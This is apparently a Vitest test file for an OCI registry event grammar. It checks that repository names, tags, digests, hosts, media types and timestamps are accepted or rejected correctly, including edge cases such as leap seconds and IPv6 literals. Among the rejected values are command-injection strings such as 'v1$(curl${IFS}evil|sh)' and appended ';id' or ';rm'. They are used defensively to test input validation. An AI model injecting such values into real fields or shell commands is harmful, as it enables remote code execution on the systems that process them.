import { describe, expect, test } from 'vitest'
import {
  chartVersionRule,
  digestRule,
  eventIdRule,
  hostRule,
  mediaTypeRule,
  repositoryRule,
  tagRule,
  timestampMillis,
  timestampRule,
  type Rule
} from '../../src/event/grammar.js'

const hex = (n: number) => 'a1'.repeat(n).slice(0, n)
const component = (n: number) => 'a'.repeat(n)

const cases: Array<[string, Rule, string, boolean]> = [
  ['repository', repositoryRule, 'hello-world', true],
  ['repository', repositoryRule, 'team/web', true],
  ['repository', repositoryRule, 'a/b/c/d', true],
  ['repository', repositoryRule, 'my_app__v2.x--y', true],
  ['repository', repositoryRule, 'x' + '/x'.repeat(127), true], // 255 characters
  ['repository', repositoryRule, 'x' + '/x'.repeat(127) + 'x', false], // 256
  ['repository', repositoryRule, component(255), true],
  ['repository', repositoryRule, component(256), false],
  ['repository', repositoryRule, 'Team/web', false],
  ['repository', repositoryRule, 'team//web', false],
  ['repository', repositoryRule, '/team', false],
  ['repository', repositoryRule, 'team/', false],
  ['repository', repositoryRule, '-team', false],
  ['repository', repositoryRule, 'team___web', false],
  ['repository', repositoryRule, 'team..web', false],
  ['repository', repositoryRule, 'team/web;id', false],
  ['repository', repositoryRule, 'team web', false],
  ['repository', repositoryRule, '', false],
  ['tag', tagRule, 'v1.4.2', true],
  ['tag', tagRule, 'latest', true],
  ['tag', tagRule, '_', true],
  ['tag', tagRule, 'wordpress-5.4.0.tgz', true],
  ['tag', tagRule, 'T' + 'a'.repeat(127), true], // 128
  ['tag', tagRule, 'T' + 'a'.repeat(128), false], // 129
  ['tag', tagRule, '.hidden', false],
  ['tag', tagRule, '-v1', false],
  ['tag', tagRule, 'v1$(curl${IFS}evil|sh)', false],
  ['tag', tagRule, 'v1`id`', false],
  ['tag', tagRule, 'v1\nv2', false],
  ['tag', tagRule, 'v1+build', false],
  ['tag', tagRule, '', false],
  ['digest', digestRule, `sha256:${hex(64)}`, true],
  ['digest', digestRule, `sha384:${hex(96)}`, true],
  ['digest', digestRule, `sha512:${hex(128)}`, true],
  ['digest', digestRule, `blake3:${hex(64)}`, true],
  ['digest', digestRule, `sha256:${hex(63)}`, false],
  ['digest', digestRule, `sha256:${hex(65)}`, false],
  ['digest', digestRule, `sha512:${hex(64)}`, false],
  ['digest', digestRule, `sha256:${hex(64).toUpperCase()}`, false],
  ['digest', digestRule, `md5:${hex(32)}`, false],
  ['digest', digestRule, 'sha256:xxxxd5c8786bb9e621a45ece0dbxxxx1cdc624ad20da9fe62e9d25490f33xxxx', false],
  ['digest', digestRule, `SHA256:${hex(64)}`, false],
  ['digest', digestRule, hex(64), false],
  // Anchored at both ends: a valid digest inside a longer value is no digest.
  ['digest', digestRule, `$(id)sha256:${hex(64)}`, false],
  ['digest', digestRule, `sha256:${hex(64)};id`, false],
  ['host', hostRule, 'myregistry.azurecr.io', true],
  ['host', hostRule, 'MyRegistry.azurecr.io', true],
  ['host', hostRule, 'localhost:5000', true],
  ['host', hostRule, 'registry-1.example.com:443', true],
  ['host', hostRule, '[::1]:5000', true],
  ['host', hostRule, '[2001:db8::1]', true],
  ['host', hostRule, '10.0.0.1', true],
  ['host', hostRule, '-bad.example.com', false],
  ['host', hostRule, 'bad-.example.com', false],
  ['host', hostRule, 'a..b', false],
  ['host', hostRule, 'host:port', false],
  ['host', hostRule, 'host:123456', false],
  ['host', hostRule, 'evil.com/x', false],
  ['host', hostRule, 'evil.com;id', false],
  // The host rule's bounds: DNS label and name lengths, real IPv6 literals only, ports 1-65535 without leading zeros.
  ['host', hostRule, `${'a'.repeat(63)}.azurecr.io`, true],
  ['host', hostRule, `${'a'.repeat(64)}.azurecr.io`, false],
  ['host', hostRule, `${'a.'.repeat(126)}a`, true],
  ['host', hostRule, `${'a.'.repeat(126)}ab`, false],
  ['host', hostRule, 'a'.repeat(55_000), false],
  ['host', hostRule, '[::1]', true],
  ['host', hostRule, '[::ffff:10.0.0.1]:443', true],
  ['host', hostRule, '[::1', false],
  ['host', hostRule, '[:::]', false],
  ['host', hostRule, '[abc]', false],
  ['host', hostRule, '[*]', false],
  ['host', hostRule, '[fe80::1%25eth0]', false],
  ['host', hostRule, '[::1]x', false],
  ['host', hostRule, '[::1]:', false],
  ['host', hostRule, 'localhost:1', true],
  ['host', hostRule, 'localhost:65535', true],
  ['host', hostRule, 'localhost:65536', false],
  ['host', hostRule, 'localhost:99999', false],
  ['host', hostRule, 'localhost:0', false],
  ['host', hostRule, 'localhost:0443', false],
  ['host', hostRule, 'localhost:', false],
  ['host', hostRule, ':5000', false],
  ['host', hostRule, '[x[::1]', false], // a literal must fill the brackets, not end them
  ['host', hostRule, 'localhost:5000x', false],
  ['host', hostRule, '[::1]:443;id', false],
  ['media type', mediaTypeRule, 'application/vnd.docker.distribution.manifest.v2+json', true],
  ['media type', mediaTypeRule, 'application/vnd.acr.helm.chart', true],
  ['media type', mediaTypeRule, 'application/vnd.oci.image.index.v1+json', true],
  ['media type', mediaTypeRule, 'application', false],
  ['media type', mediaTypeRule, 'application/json; charset=utf-8', false],
  ['media type', mediaTypeRule, 'application/$(id)', false],
  ['media type', mediaTypeRule, 'a/b/c', false],
  ['event id', eventIdRule, 'cb8c3971-9adc-488b-b1f6-43cbb4974ff5', true],
  ['event id', eventIdRule, 'a'.repeat(128), true],
  ['event id', eventIdRule, 'a'.repeat(129), false],
  ['event id', eventIdRule, 'id with space', false],
  ['chart version', chartVersionRule, '1.2.3+build.7', true],
  ['chart version', chartVersionRule, '1.2.3;rm', false],
  ['timestamp', timestampRule, '2017-11-17T16:52:01.343145347Z', true],
  ['timestamp', timestampRule, '2019-03-05T23:45:31.2614267Z', true],
  ['timestamp', timestampRule, '2026-11-24T10:00:00+01:00', true],
  ['timestamp', timestampRule, '2026-11-24t10:00:00z', true],
  ['timestamp', timestampRule, '2024-02-29T00:00:00Z', true],
  ['timestamp', timestampRule, '2000-02-29T00:00:00Z', true], // divisible by 400: a leap year
  ['timestamp', timestampRule, '1900-02-29T00:00:00Z', false], // divisible by 100 only: not one
  ['timestamp', timestampRule, '2026-04-31T00:00:00Z', false],
  ['timestamp', timestampRule, '2026-12-31T00:00:00-23:59', true],
  ['timestamp', timestampRule, '2026-12-31T00:00:00+24:00', false],
  ['timestamp', timestampRule, '2026-00-10T00:00:00Z', false],
  ['timestamp', timestampRule, '2016-12-31T23:59:60Z', true],
  ['timestamp', timestampRule, '2015-06-30T23:59:60.5Z', true], // a leap second may end any month
  ['timestamp', timestampRule, '2016-12-31T18:59:60-05:00', true], // 23:59:60 UTC, written in another zone
  ['timestamp', timestampRule, '2026-01-01T10:15:60Z', false], // a 60th second is only ever a leap second
  ['timestamp', timestampRule, '2016-12-30T23:59:60Z', false], // not a month's last day
  ['timestamp', timestampRule, '2016-12-31T23:58:60Z', false],
  ['timestamp', timestampRule, '2016-12-31T22:59:60Z', false],
  ['timestamp', timestampRule, '2016-12-31T23:59:60+01:00', false], // 22:59:60 UTC
  ['timestamp', timestampRule, '2026-11-24T10:00:61Z', false],
  ['timestamp', timestampRule, '2017-01-31T23:59:60Z', true], // the last day of the year's first month
  ['timestamp', timestampRule, '2017-02-28T23:59:60Z', true], // and of a February that is not a leap year's
  ['timestamp', timestampRule, '2026-01-01T00:00:00Z', true],
  ['timestamp', timestampRule, '2026-01-00T00:00:00Z', false],
  ['timestamp', timestampRule, '2026-01-01T10:60:00Z', false],
  ['timestamp', timestampRule, '2026-01-01T10:00:00+01:60', false],
  ['timestamp', timestampRule, '2017-11-17T16:52:01.3431453470Z', false], // 10 fractional digits
  ['timestamp', timestampRule, '2023-02-29T00:00:00Z', false],
  ['timestamp', timestampRule, '2026-13-01T00:00:00Z', false],
  ['timestamp', timestampRule, '2026-11-24T24:00:00Z', false],
  ['timestamp', timestampRule, '2026-11-24T10:00:00', false],
  ['timestamp', timestampRule, '2026-11-24 10:00:00Z', false],
  ['timestamp', timestampRule, '1700000000', false],
  ['timestamp', timestampRule, 'x2026-01-01T00:00:00Z', false],
  ['timestamp', timestampRule, '2026-01-01T00:00:00Z;id', false]
]

describe('OCI grammar', () => {
  test.each(cases)('%s %j → %s', (_kind, rule, value, valid) => {
    expect(rule.test(value)).toBe(valid)
  })
})

describe('timestampMillis', () => {
  test.each([
    ['2017-11-17T16:52:01.343145347Z', Date.UTC(2017, 10, 17, 16, 52, 1, 343)],
    ['2026-11-24T10:00:00+01:00', Date.UTC(2026, 10, 24, 9, 0, 0)],
    ['2016-12-31T23:59:60Z', Date.UTC(2016, 11, 31, 23, 59, 59)]
  ])('%s', (value, millis) => {
    expect(timestampMillis(value)).toBe(millis)
  })
})
